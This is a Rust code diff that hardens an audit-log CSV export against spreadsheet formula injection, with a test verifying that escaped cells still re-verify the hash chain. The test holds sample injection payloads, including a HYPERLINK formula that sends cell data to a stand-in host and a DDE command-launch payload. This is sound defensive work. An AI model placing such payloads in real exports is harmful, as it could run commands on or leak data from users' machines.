@@ -4,6 +4,13 @@
 //! plus both hashes in hex, so an auditor can re-verify an export with the rule in
 //! [`hash`](super::hash) without access to the node. `time` (RFC 3339, UTC) is added for people;
 //! it is not hashed — `at` (Unix milliseconds) is.
+//!
+//! CSV is opened in spreadsheets, which run a cell beginning with `=`, `+`, `-` or `@` (and, in
+//! some, a tab or carriage return) as a formula: an actor name or a refusal reason from outside
+//! could then run on an auditor's machine (CSV injection). A text cell beginning with one of
+//! those, or with `'`, gets a leading `'` (OWASP's advice; spreadsheets show the rest as text).
+//! The rule is reversible — a text cell that begins with `'` had exactly one added
+//! ([`csv_text_value`]) — so the hashes can still be re-verified from a CSV export.
 
 use std::io::{self, Write};
 
@@ -97,13 +104,30 @@ pub fn parse_jsonl_line(line: &str) -> Result<AuditRecord, serde_json::Error> {
     serde_json::from_str(line)
 }
 
-/// RFC 4180 quoting: quoted when it holds a comma, quote, CR or LF; quotes doubled.
+/// The first characters that make a spreadsheet read a cell as a formula, and `'`, the escape
+/// itself (so that every escaped cell can be told from an unescaped one).
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// A text field as a CSV cell: neutralised against formulas (a leading `'` when it begins with
+/// one of [`FORMULA_STARTS`]), then RFC 4180 quoting: quoted when it holds a comma, quote, CR or
+/// LF; quotes doubled.
 fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(FORMULA_STARTS) {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    };
     if s.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s
     }
+}
+
+/// The stored value of a text cell of a CSV export (after RFC 4180 unquoting): the leading `'`
+/// the export added against formulas removed. Use it to re-verify hashes from a CSV export.
+pub fn csv_text_value(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
 }
 
 #[cfg(test)]
@@ -156,5 +180,85 @@ mod tests {
         assert!(text.starts_with("seq,at,time,actor,"));
         assert!(text.contains(r#""{""n"":0,""note"":""a, \""quoted\""\nline""}""#));
         assert_eq!(csv_field("plain"), "plain");
+    }
+
+    /// Every formula trigger is neutralised, in every text column, and the stored value is
+    /// recovered exactly (so the chain re-verifies from the CSV).
+    #[test]
+    fn csv_cells_cannot_run_as_formulas() {
+        let dangerous = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1",
+            "\r=1",
+            "'=already quoted",
+            "plain",
+        ];
+        let mut head = ChainHead::GENESIS;
+        let records: Vec<AuditRecord> = dangerous
+            .iter()
+            .enumerate()
+            .map(|(i, d)| {
+                let r = AuditRecord::next(
+                    head,
+                    1_764_000_000_000,
+                    AuditEntry::new(*d, *d, *d, i as i64, &serde_json::json!({ "reason": d })),
+                );
+                head = r.head();
+                r
+            })
+            .collect();
+        let mut back = Vec::new();
+        for r in &records {
+            let mut out = Vec::new();
+            write_record(&mut out, Format::Csv, r).unwrap();
+            let line = String::from_utf8(out).unwrap();
+            let cells = parse_csv_line(line.strip_suffix("\r\n").unwrap());
+            assert_eq!(cells.len(), 10, "{line:?}");
+            for cell in &cells[3..8] {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} in {line:?}"
+                );
+            }
+            let text = |i: usize| csv_text_value(&cells[i]).to_owned();
+            let hash = |i: usize| <[u8; 32]>::try_from(hex::decode(&cells[i]).unwrap()).unwrap();
+            back.push(AuditRecord {
+                seq: cells[0].parse().unwrap(),
+                at: cells[1].parse().unwrap(),
+                actor: text(3),
+                action: text(4),
+                entity_kind: text(5),
+                entity_id: text(6),
+                detail: text(7),
+                prev_hash: hash(8),
+                hash: hash(9),
+            });
+        }
+        assert_eq!(back, records);
+        assert_eq!(verify_chain(&back).unwrap().records, dangerous.len() as u64);
+    }
+
+    /// RFC 4180, enough for one record of the export (a quoted field may hold CR, LF, commas).
+    fn parse_csv_line(line: &str) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = line.chars().peekable();
+        while let Some(c) = chars.next() {
+            let cell = cells.last_mut().unwrap();
+            match (quoted, c) {
+                (false, '"') if cell.is_empty() => quoted = true,
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cell.push('"');
+                }
+                (true, '"') => quoted = false,
+                (false, ',') => cells.push(String::new()),
+                (_, c) => cell.push(c),
+            }
+        }
+        cells
     }
 }
